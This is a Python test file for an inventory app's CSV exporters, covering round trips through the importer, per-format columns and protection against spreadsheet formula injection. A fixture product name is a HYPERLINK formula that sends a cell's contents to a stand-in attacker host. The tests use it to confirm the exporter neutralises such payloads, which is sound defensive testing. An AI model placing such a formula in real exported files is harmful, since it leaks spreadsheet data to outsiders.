"""Exporters: what each shop file says, and that our importer reads it back to the same state.

The catalog here has what a round trip can trip on: stock at two warehouses (one imported
from Shopify), units allocated to an order, units owed on backorder, every backorder policy,
a backorder limit, a preorder, a product never counted, and names and SKUs a spreadsheet would
take for formulas.
"""

from __future__ import annotations

import csv
from datetime import timedelta
from pathlib import Path

import pytest
import typer
from typer.testing import CliRunner

from backorder.adapters.exporters.csvsafe import FORMULA_STARTS, guard, unguard
from backorder.adapters.importers.shopify import ImportOptions
from backorder.domain.model import BackorderPolicy, Product
from backorder.entrypoints import cli_export
from backorder.entrypoints.cli_export import EXPORTERS, export_file
from backorder.entrypoints.cli_import import import_file
from backorder.service import catalog, orders, queries, stock

FORMATS = sorted(EXPORTERS)  # magento, shopify, shopify-products, woocommerce
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
PRODUCTS = {  # sku: (name, policy, limit)
    "A": ("Alpha", BackorderPolicy.DENY, None),
    "B": ("Beta", BackorderPolicy.ALLOW_NOTIFY, None),
    "C": ("Gamma", BackorderPolicy.DENY, None),
    "D": ("Delta", BackorderPolicy.ALLOW, 5),
    "E": ("Epsilon", BackorderPolicy.ALLOW, None),
    "F": (FORMULA, BackorderPolicy.DENY, None),
    "-G1": ("+Gimel @home", BackorderPolicy.ALLOW, None),
    "H": ("Never counted", BackorderPolicy.DENY, None),
    "P": ("Preorder", BackorderPolicy.DENY, 10),
}


def build_catalog(app) -> None:
    now = app.clock()
    catalog.save_warehouse(app.uow, "shop-location", "Shop location", rank=1)
    for sku, (name, policy, limit) in PRODUCTS.items():
        release = now + timedelta(days=30) if sku == "P" else None
        catalog.save_product(app.uow, Product(sku, name, 1250, "EUR", policy, limit, release), now)
    counts = {
        ("A", "main"): 0,
        ("B", "main"): 0,
        ("C", "main"): 5,
        ("D", "main"): 0,
        ("E", "main"): 3,
        ("E", "shop-location"): 4,
        ("F", "main"): 2,
        ("-G1", "shop-location"): 1,
        ("P", "main"): 6,
    }
    for (sku, warehouse), counted in counts.items():
        stock.adjust_stock(app.uow, sku, warehouse, now, count=counted)
    ann = catalog.create_customer(app.uow, catalog.CustomerIn("Ann"), now)
    # E: 3 + 4 on hand, 9 ordered: 7 allocated over both warehouses, 2 owed.
    place = orders.PlaceOrder(ann.id, [orders.OrderLineIn("E", 9), orders.OrderLineIn("C", 2)])
    orders.place_order(app.uow, place, now)


def export(app, path: Path, file_format: str) -> Path:
    export_file(app, path, file_format)
    return path


def reimport(app, path: Path):
    result = import_file(app, path, ImportOptions(currency="EUR", source=path.name))
    assert queries.check(app.uow) == []
    return result


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.DictReader(stream))


def snapshot(app) -> tuple:
    return (
        queries.products(app.uow, limit=1000),
        queries.stock(app.uow),
        queries.ledger(app.uow, limit=10_000),
        queries.orders(app.uow),
        queries.warehouses(app.uow),
    )


# -- the round trip ---------------------------------------------------------------------------

ROWS_READ_BACK = {  # format: (rows, of them skipped)
    "shopify": (10, 1),  # a row per stock row (9), H not stocked (skipped)
    "shopify-products": (9, 0),
    "woocommerce": (9, 0),
    "magento": (9, 0),  # a row per stock row; H has none
}


@pytest.mark.parametrize("file_format", FORMATS)
def test_export_then_import_then_export_changes_nothing(any_app, tmp_path, file_format):
    app = any_app
    build_catalog(app)
    before = snapshot(app)

    first = export(app, tmp_path / "first.csv", file_format)
    result = reimport(app, first)
    second = export(app, tmp_path / "second.csv", file_format)

    assert second.read_bytes() == first.read_bytes()
    read, skipped = ROWS_READ_BACK[file_format]
    assert (result.rows_read, result.skipped, result.error_count) == (read, skipped, 0)
    assert (result.created, result.updated, result.unchanged) == (0, 0, read - skipped)
    assert snapshot(app) == before


@pytest.mark.parametrize("file_format", FORMATS)
def test_an_export_read_into_an_empty_database_counts_the_same_stock(app, tmp_path, file_format):
    build_catalog(app)
    path = export(app, tmp_path / "catalog.csv", file_format)
    fresh = _fresh_app(tmp_path)
    if file_format in ("shopify", "magento"):  # stock files: their products come first
        reimport(fresh, export(app, tmp_path / "products.csv", "shopify-products"))

    result = reimport(fresh, path)

    assert result.error_count == 0
    counted = {(s.sku, s.warehouse): s.on_hand for s in queries.stock(app.uow)}
    assert {
        (s.sku, s.warehouse): s.on_hand
        for s in queries.stock(fresh.uow)
        if (s.sku, s.warehouse) in counted
    } == _expected_counts(file_format, counted)
    fresh.close()


def _fresh_app(tmp_path: Path):
    from backorder.bootstrap import build
    from backorder.config import Settings

    return build(Settings(database_url=f"sqlite:///{tmp_path / 'fresh.db'}"))


def _expected_counts(file_format: str, counted: dict) -> dict:
    """One-quantity formats carry the chosen warehouse's stock only."""
    if file_format in ("shopify", "magento"):
        return counted
    return {key: on_hand for key, on_hand in counted.items() if key[1] == "main"}


# -- what each file says ----------------------------------------------------------------------


def test_shopify_inventory_shows_committed_and_owed_units_as_shopify_does(app, tmp_path):
    build_catalog(app)

    exported = rows(export(app, tmp_path / "inventory.csv", "shopify"))

    by_key = {(r["SKU"], r["Location"]): r for r in exported}
    # E: 3 + 4 on hand, all 7 allocated, 2 owed: shown on its first warehouse (main).
    assert [
        by_key["E", loc][c]
        for loc in ("main", "Shop location")
        for c in ("Committed", "Available", "On hand")
    ] == ["5", "-2", "3", "4", "0", "4"]
    c_main = by_key["C", "main"]
    assert [c_main[c] for c in ("Committed", "Available", "On hand")] == ["2", "3", "5"]
    assert [by_key["H", "main"][c] for c in ("Available", "On hand")] == ["not stocked"] * 2
    assert by_key["A", "main"]["Handle"] == "alpha"
    assert (by_key["A", "main"]["Option1 Name"], by_key["A", "main"]["Option1 Value"]) == (
        "Title",
        "Default Title",
    )


def test_shopify_product_csv_says_continue_for_both_allowing_policies(app, tmp_path):
    build_catalog(app)

    exported = {
        r["Variant SKU"]: r for r in rows(export(app, tmp_path / "p.csv", "shopify-products"))
    }

    assert [exported[s]["Variant Inventory Policy"] for s in "ABCD"] == [
        "deny",
        "continue",
        "deny",
        "continue",
    ]
    assert [exported[s]["Variant Inventory Qty"] for s in ("C", "E", "H")] == ["5", "3", ""]
    assert exported["C"]["Variant Price"] == "12.50"


def test_woocommerce_says_in_stock_on_backorder_or_out_of_stock(app, tmp_path):
    build_catalog(app)

    path = export(app, tmp_path / "wc.csv", "woocommerce")

    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    exported = {r["SKU"]: r for r in rows(path)}
    assert {s: exported[s]["In stock?"] for s in ("A", "B", "C", "D", "E", "P")} == {
        "A": "0",
        "B": "backorder",
        "C": "1",
        "D": "backorder",
        "E": "backorder",
        "P": "backorder",
    }
    assert [exported[s]["Backorders allowed?"] for s in "ABCD"] == ["0", "notify", "0", "1"]
    assert [exported[s]["Stock"] for s in ("A", "C", "E", "H")] == ["0", "5", "3", ""]


def test_magento_sources_name_the_chosen_warehouse_default(app, tmp_path):
    build_catalog(app)

    exported = rows(export(app, tmp_path / "sources.csv", "magento"))

    assert [(r["source_code"], r["sku"], r["status"], r["quantity"]) for r in exported] == [
        ("shop-location", "'-G1", "1", "1"),
        ("default", "A", "0", "0"),
        ("default", "B", "1", "0"),
        ("default", "C", "1", "5"),
        ("default", "D", "1", "0"),
        ("default", "E", "1", "3"),
        ("shop-location", "E", "1", "4"),
        ("default", "F", "1", "2"),
        ("default", "P", "1", "6"),
    ]


# -- formula injection ------------------------------------------------------------------------


@pytest.mark.parametrize("file_format", FORMATS)
def test_text_that_could_run_as_a_formula_is_written_with_a_quote(app, tmp_path, file_format):
    build_catalog(app)

    text = export(app, tmp_path / "out.csv", file_format).read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(text.splitlines()) for cell in row]

    if file_format != "magento":  # source items carry no names
        assert "'" + FORMULA in cells
        assert "'+Gimel @home" in cells
        assert FORMULA not in cells
    assert "'-G1" in cells and "-G1" not in cells


def test_numbers_are_never_guarded_so_owed_units_read_back_as_numbers(app, tmp_path):
    build_catalog(app)

    text = export(app, tmp_path / "inventory.csv", "shopify").read_text(encoding="utf-8")

    assert ",-2," in text and "'-2" not in text


@pytest.mark.parametrize(
    "text",
    [
        "=1+2",
        "+1",
        "-",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "'=x",
        "''@x",
        "plain",
        "'plain",
        "",
        "'5",
        "5",
        "a=b",
    ],
)
def test_the_guard_reads_back_to_the_text_written_and_never_starts_a_formula(text):
    assert unguard(guard(text)) == text
    assert not guard(text).startswith(FORMULA_STARTS)


# -- the command ------------------------------------------------------------------------------


@pytest.fixture
def cli(sqlite_app):
    app = typer.Typer()
    cli_export.register(app)

    @app.callback()
    def _root() -> None:
        pass

    url = str(sqlite_app.engine.url)
    return lambda *args: CliRunner().invoke(app, ["export", "--database-url", url, *args])


def test_export_command_writes_the_file_and_says_how_many_rows(cli, sqlite_app, tmp_path):
    build_catalog(sqlite_app)
    path = tmp_path / "wc.csv"

    outcome = cli("--format", "woocommerce", str(path))

    assert outcome.exit_code == 0, outcome.output
    assert outcome.output.strip() == "wc.csv: 9 rows (woocommerce)"
    assert len(rows(path)) == 9


def test_export_command_refuses_an_unknown_format_and_writes_nothing(cli, tmp_path):
    path = tmp_path / "x.csv"

    outcome = cli("--format", "amazon", str(path))

    assert outcome.exit_code == 2
    assert "unknown format 'amazon'" in outcome.output
    assert not path.exists()


def test_export_warns_of_a_warehouse_no_location_name_reads_back_as(cli, sqlite_app, tmp_path):
    catalog.save_warehouse(sqlite_app.uow, "WH_1", "Second warehouse")

    outcome = cli("--format", "shopify", str(tmp_path / "inv.csv"))

    assert outcome.exit_code == 0
    assert "warning: warehouse 'WH_1'" in outcome.output
